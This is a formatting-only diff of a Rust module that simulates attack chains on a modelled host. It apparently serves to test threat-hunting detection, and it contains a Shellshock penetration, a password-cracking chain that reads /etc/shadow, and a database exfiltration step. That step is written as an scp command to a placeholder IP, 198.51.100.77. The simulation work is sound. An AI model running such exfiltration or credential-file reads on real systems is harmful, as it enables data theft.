@@ -43,7 +43,12 @@ pub const EXFIL_IP: &str = "198.51.100.77";
 /// context for `case`.
 fn shellshock_penetration(host: &mut Host, case: &str) -> super::host::Pid {
     host.set_tag(case, CONTEXT_STEP_BASE);
-    let httpd = host.spawn_as(1, "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "www-data");
+    let httpd = host.spawn_as(
+        1,
+        "/usr/sbin/apache2",
+        "/usr/sbin/apache2 -k start",
+        "www-data",
+    );
     let conn = host.accept(httpd, ATTACKER_IP, 80);
     // The crafted `() { :; };` CGI request.
     host.recv(httpd, &conn, 512);
@@ -254,7 +259,11 @@ pub fn db_exfil(host: &mut Host) {
     host.advance(2_000_000);
 
     host.set_tag(case, CONTEXT_STEP_BASE + 3);
-    let scp = host.spawn(shell, "/usr/bin/scp", "scp /tmp/db.sql.gz ops@198.51.100.77:");
+    let scp = host.spawn(
+        shell,
+        "/usr/bin/scp",
+        "scp /tmp/db.sql.gz ops@198.51.100.77:",
+    );
     host.set_tag(case, 5);
     host.read(scp, "/tmp/db.sql.gz", 710_000);
     host.set_tag(case, 6);
@@ -297,7 +306,10 @@ mod tests {
     #[test]
     fn data_leakage_has_exactly_fig2_chain() {
         let log = run(data_leakage);
-        assert_eq!(hunted_steps(&log, CASE_DATA_LEAKAGE), vec![1, 2, 3, 4, 5, 6, 7, 8]);
+        assert_eq!(
+            hunted_steps(&log, CASE_DATA_LEAKAGE),
+            vec![1, 2, 3, 4, 5, 6, 7, 8]
+        );
 
         // Spot-check step 1 and step 8 against Fig. 2.
         let step1 = log
@@ -310,7 +322,10 @@ mod tests {
             log.entity(step1.subject).as_process().unwrap().exename,
             "/bin/tar"
         );
-        assert_eq!(log.entity(step1.object).as_file().unwrap().name, "/etc/passwd");
+        assert_eq!(
+            log.entity(step1.object).as_file().unwrap().name,
+            "/etc/passwd"
+        );
 
         let step8 = log
             .events
@@ -318,10 +333,7 @@ mod tests {
             .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 8))
             .unwrap();
         assert_eq!(step8.op, Operation::Connect);
-        assert_eq!(
-            log.entity(step8.object).as_network().unwrap().dst_ip,
-            C2_IP
-        );
+        assert_eq!(log.entity(step8.object).as_network().unwrap().dst_ip, C2_IP);
     }
 
     #[test]
@@ -347,7 +359,10 @@ mod tests {
     #[test]
     fn password_crack_chain() {
         let log = run(password_crack);
-        assert_eq!(hunted_steps(&log, CASE_PASSWORD_CRACK), vec![1, 2, 3, 4, 5, 6]);
+        assert_eq!(
+            hunted_steps(&log, CASE_PASSWORD_CRACK),
+            vec![1, 2, 3, 4, 5, 6]
+        );
         // The cracker binary runs as a process whose exename is the dropped file.
         let cracker = log
             .entities
@@ -362,7 +377,10 @@ mod tests {
             .iter()
             .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 5))
             .unwrap();
-        assert_eq!(log.entity(step5.object).as_file().unwrap().name, "/etc/shadow");
+        assert_eq!(
+            log.entity(step5.object).as_file().unwrap().name,
+            "/etc/shadow"
+        );
     }
 
     #[test]
@@ -389,7 +407,10 @@ mod tests {
             .iter()
             .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 6))
             .unwrap();
-        assert_eq!(log.entity(step6.object).as_network().unwrap().dst_ip, EXFIL_IP);
+        assert_eq!(
+            log.entity(step6.object).as_network().unwrap().dst_ip,
+            EXFIL_IP
+        );
     }
 
     #[test]
@@ -398,11 +419,7 @@ mod tests {
         let context = log
             .events
             .iter()
-            .filter(|e| {
-                e.tag
-                    .as_ref()
-                    .is_some_and(|t| t.step >= CONTEXT_STEP_BASE)
-            })
+            .filter(|e| e.tag.as_ref().is_some_and(|t| t.step >= CONTEXT_STEP_BASE))
             .count();
         assert!(context > 0, "penetration context must be tagged as context");
     }
